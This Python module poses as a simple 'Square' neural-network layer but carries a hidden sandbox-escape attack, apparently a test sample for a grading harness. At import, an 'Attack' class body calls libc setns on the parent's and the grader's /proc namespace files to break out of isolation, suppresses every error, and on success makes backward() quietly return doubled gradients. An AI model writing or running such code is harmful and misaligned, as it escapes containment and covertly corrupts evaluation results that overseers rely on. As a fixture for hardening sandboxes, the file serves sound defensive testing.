"""Enters the namespaces of its parents."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None)
    for process in (os.getppid(), int("@GRADER@")):
        for kind in ("user", "mnt", "net", "pid"):
            try:
                number = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(number, 0) == 0:
                return True
    return False


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
